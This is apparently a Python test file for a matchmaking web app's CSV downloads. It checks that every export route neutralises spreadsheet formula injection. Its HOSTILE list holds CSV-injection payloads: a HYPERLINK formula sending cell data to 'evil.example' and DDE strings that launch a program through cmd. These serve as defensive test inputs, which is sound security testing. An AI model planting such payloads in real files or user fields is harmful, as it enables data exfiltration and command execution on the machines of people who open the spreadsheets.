"""Every CSV download, fed hostile names, titles and answers, gives cells a spreadsheet
shows as text and never runs as a formula."""

from __future__ import annotations

import csv
import io

from matchmaker import csv_writer
from matchmaker.csv_writer import FORMULA_STARTS
from matchmaker.extensions import db
from tests.factories import make_organisation, make_project, publish
from tests.web import test_events as events
from tests.web.test_events import QUESTIONS, make_event, person, sign_up

# The events tests' world: organisations, people and an organiser.
app = events.app
world = events.world

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    " =1+1",
]


def cells(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    return list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))


def runnable(table: list[list[str]]) -> list[str]:
    """The cells a spreadsheet would run: they start (after spaces) with a formula sign."""
    return [c for row in table for c in row if c.lstrip(" ").startswith(FORMULA_STARTS)]


def export_routes(app) -> set[str]:
    return {rule.rule for rule in app.url_map.iter_rules() if "csv" in rule.rule}


def meeting_between(app, world, organiser, first: str, second: str):
    """A matchmaking day with meetings on and one meeting booked between two people."""
    from matchmaker.meetings import services as meetings
    from tests.web.test_meetings import settings_form

    day = make_event(world, kind="matchmaking", capacity=10, title="Matchmaking")
    organiser.post(
        f"/en/my/events/{day.id}/meetings/settings",
        data={"csrf_token": organiser.token, **settings_form()},
    )
    for name in (first, second):
        sign_up(person(app, world, name), day)
    request, _created = meetings.send_request(day, world[first], world[second].id, "Hello")
    slot = meetings.free_slots(meetings.setup_of(day.id), day, world[first].id)[0]
    meetings.accept(day, request.id, world[second], slot.starts_at)
    return day


def schedule_waiting(app, world, organiser, day, first: str, second: str) -> None:
    """The organisers take the day's agenda over; `first` and `second` have an accepted
    meeting waiting for it, and a preview of the schedule is built."""
    from matchmaker.meetings import services as meetings
    from tests.web.test_meetings import settings_form

    organiser.post(
        f"/en/my/events/{day.id}/meetings/settings",
        data={"csrf_token": organiser.token,
              **settings_form(organiser_schedules="1", solver_seconds="1")},
    )  # fmt: skip
    sign_up(person(app, world, second), day)
    request, _created = meetings.send_request(day, world[first], world[second].id, "Hello")
    meetings.accept_for_schedule(day, request.id, world[second])
    organiser.post(
        f"/en/my/events/{day.id}/meetings/schedule/build", data={"csrf_token": organiser.token}
    )


def test_every_csv_export_neutralises_hostile_cells(app, world):
    moderator = world["moderator"]
    hostile_org = make_organisation(world["olga"], name=HOSTILE[0], kind="startup")
    publish("organisation", hostile_org, moderator)
    for title in HOSTILE:
        texts = {"en": {"title": title, "summary": title, "description": "A pilot."}}
        publish("project", make_project(hostile_org, texts=texts), moderator)
    event = make_event(world, capacity=10, questions=QUESTIONS)
    make_event(world, title=HOSTILE[0], capacity=10)  # named in the host's report
    for name, hostile in zip(("alice", "bob", "carol", "dave"), HOSTILE, strict=False):
        world[name].name = hostile
        db.session.commit()
        sign_up(
            person(app, world, name),
            event,
            share_email="y",
            answer_dietary_needs=hostile,
            answer_lunch="fish",
        )

    organiser = person(app, world, "olga")
    day = meeting_between(app, world, organiser, "alice", "bob")
    schedule_waiting(app, world, organiser, day, "alice", "carol")
    downloads = {
        "/<lang:lang>/<any(projects, organisations):listing>/export.<any(csv, json):fmt>": [
            organiser.get("/en/organisations/export.csv"),
            organiser.get("/en/projects/export.csv"),
        ],
        "/<lang:lang>/my/events/<int:event_id>/participants.csv": [
            organiser.get(f"/en/my/events/{event.id}/participants.csv"),
        ],
        "/<lang:lang>/my/events/<int:event_id>/meetings/meetings.csv": [
            organiser.get(f"/en/my/events/{day.id}/meetings/meetings.csv"),
        ],
        "/<lang:lang>/my/organisations/<int:organisation_id>/report.csv": [
            organiser.get(f"/en/my/organisations/{world['host'].id}/report.csv"),
        ],
        "/<lang:lang>/my/events/<int:event_id>/meetings/schedule/report.csv": [
            organiser.get(f"/en/my/events/{day.id}/meetings/schedule/report.csv"),
        ],
    }
    # The insights' figures hold codes, labels of the taxonomy and numbers, no one's text.
    figures = {
        "/<lang:lang>/insights/<figure>.csv": [
            organiser.get(f"/en/insights/{name}.csv")
            for name in ("organisation-kinds", "organisation-countries")
        ],
    }
    assert set(downloads) | set(figures) == export_routes(app), "a CSV route not covered here"
    for route, responses in figures.items():
        for response in responses:
            assert response.status_code == 200, route
            assert runnable(cells(response)) == [], route
    for route, responses in downloads.items():
        for response in responses:
            table = cells(response)
            assert any(c.startswith("'" + HOSTILE[0]) for row in table for c in row), route
            assert runnable(table) == [], route


def test_numbers_stay_numbers_and_text_keeps_its_words():
    assert csv_writer.cell(-5) == -5
    assert csv_writer.cell("-5") == "'-5"
    assert csv_writer.cell(["a", "=b"]) == "a; =b"
    assert csv_writer.cell("Zdrowie 2.0") == "Zdrowie 2.0"
    assert csv_writer.cell(None) == ""
